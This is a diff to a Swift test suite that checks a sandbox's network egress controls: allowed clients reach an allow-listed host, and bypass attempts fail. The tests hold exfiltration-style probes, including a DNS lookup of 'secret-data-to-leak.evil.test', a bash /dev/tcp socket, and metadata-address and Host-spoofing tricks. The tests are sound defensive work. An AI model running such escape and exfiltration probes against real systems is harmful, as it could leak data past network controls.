@@ -116,16 +116,45 @@ struct EgressTests {
         }
     }
 
-    @Test("without the proxy there is no way, and no name")
+    @Test(
+        "clients that know of no proxy reach the host by its name, on its ports",
+        arguments: [
+            "curl -fsS --noproxy '*' https://index.test/file.txt",
+            "curl -fsS --noproxy '*' http://index.test/file.txt",
+            "env -i PATH=$PATH wget -qO- --ca-certificate=trusted.pem https://index.test/file.txt",
+            "env -i PATH=$PATH SSL_CERT_FILE=$SSL_CERT_FILE python3 -c 'import urllib.request as u; "
+                + "print(u.urlopen(\"https://index.test/file.txt\").read().decode(), end=\"\")'",
+            """
+            { printf 'GET /file.txt HTTP/1.0\r\nHost: index.test\r\n\r\n'; sleep 1; } \
+            | openssl s_client -quiet -servername index.test -connect index.test:443 2>/dev/null | tail -n 1
+            """,
+            "bash -c 'exec 3<>/dev/tcp/index.test/80; printf \"GET /file.txt HTTP/1.0\\r\\nHost: index.test\\r\\n\\r\\n\" >&3; tail -n 1 <&3'",
+        ]
+    )
+    func withoutProxy(script: String) async throws {
+        guard geteuid() == 0 else { return }
+        try await withScratch { scratch in
+            let (finished, requests) = try run(scratch, hosts: ["index.test"], script)
+            #expect(finished.status == 0 && finished.out == "fine\n", "\(finished)")
+            #expect(requests.hasPrefix("index.test") && requests.contains("/file.txt\n"), "\(requests)")
+            #expect(!finished.err.contains("refused"), "\(finished)")
+        }
+    }
+
+    @Test("around the proxy there is no way, and nothing hangs")
     func around() async throws {
         guard geteuid() == 0 else { return }
         try await withScratch { scratch in
             let script = """
-                curl -sS -m 3 --noproxy '*' https://index.test/file.txt >&2 && exit 1
+                curl -sS -m 3 --noproxy '*' https://evil.test/file.txt >&2 && exit 1
                 curl -sS -m 3 --noproxy '*' https://127.0.0.1/file.txt >&2 && exit 1
-                python3 - <<'X' || exit 1
-                import socket
-                for address in ["127.0.0.1", "10.9.8.7", "169.254.169.254", "8.8.8.8"]:
+                curl -sS -m 3 --noproxy '*' https://127.64.0.9/file.txt >&2 && exit 1
+                curl -sSk -m 3 --noproxy '*' --connect-to evil.test:443:index.test:443 https://evil.test/file.txt >&2 && exit 1
+                curl -fsS -m 3 --noproxy '*' -H 'Host: evil.test' http://index.test/file.txt >&2 && exit 1
+                cat > try.py <<'X'
+                import socket, time
+                begin = time.monotonic()
+                for address in ["10.9.8.7", "169.254.169.254", "8.8.8.8"]:
                     for port in [53, 80, 443]:
                         s = socket.socket(); s.settimeout(2)
                         try: s.connect((address, port)); raise SystemExit("reached " + address)
@@ -133,12 +162,34 @@ struct EgressTests {
                 u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                 try: u.sendto(b"x", ("8.8.8.8", 53)); raise SystemExit("sent")
                 except OSError: pass
+                for name in ["evil.test", "secret-data-to-leak.evil.test", "metadata.test", "x" * 63 + ".test"]:
+                    try: raise SystemExit(socket.getaddrinfo(name, 443))
+                    except socket.gaierror: pass
+                try: raise SystemExit(socket.getaddrinfo("index.test", 443, socket.AF_INET6))
+                except socket.gaierror: pass
+                assert len({a[4][0] for a in socket.getaddrinfo("index.test", 443)}) == 1
+                assert time.monotonic() - begin < 2
                 X
-                curl -fsS https://index.test/file.txt
+                python3 try.py || exit 1
+                curl -fsS --noproxy '*' https://index.test/file.txt
                 """
             let (finished, requests) = try run(scratch, hosts: ["index.test"], script)
             #expect(finished.status == 0 && finished.out == "fine\n", "\(finished)")
-            #expect(requests == "index.test /file.txt\n")
+            #expect(requests == "index.test /file.txt\n", "\(requests)")
+            #expect(finished.err.contains("secret-data-to-leak.evil.test is not among"), "\(finished.err)")
+        }
+    }
+
+    @Test("a step has none of the sockets, and a sandbox without a network has no way either")
+    func descriptors() async throws {
+        guard geteuid() == 0 else { return }
+        try await withScratch { scratch in
+            let (with, _) = try run(scratch, hosts: ["index.test"], "ls /proc/self/fd | tr '\\n' ' '")
+            #expect(with.out == "0 1 2 3 ", "\(with)")
+            let script =
+                "env | grep -i proxy; cat /proc/net/tcp /proc/net/udp | wc -l; curl -sS -m 3 https://index.test/"
+            let (without, requests) = try run(scratch, hosts: [], script)
+            #expect(without.out == "2\n" && without.status == 6 && requests.isEmpty, "\(without)")
         }
     }
 
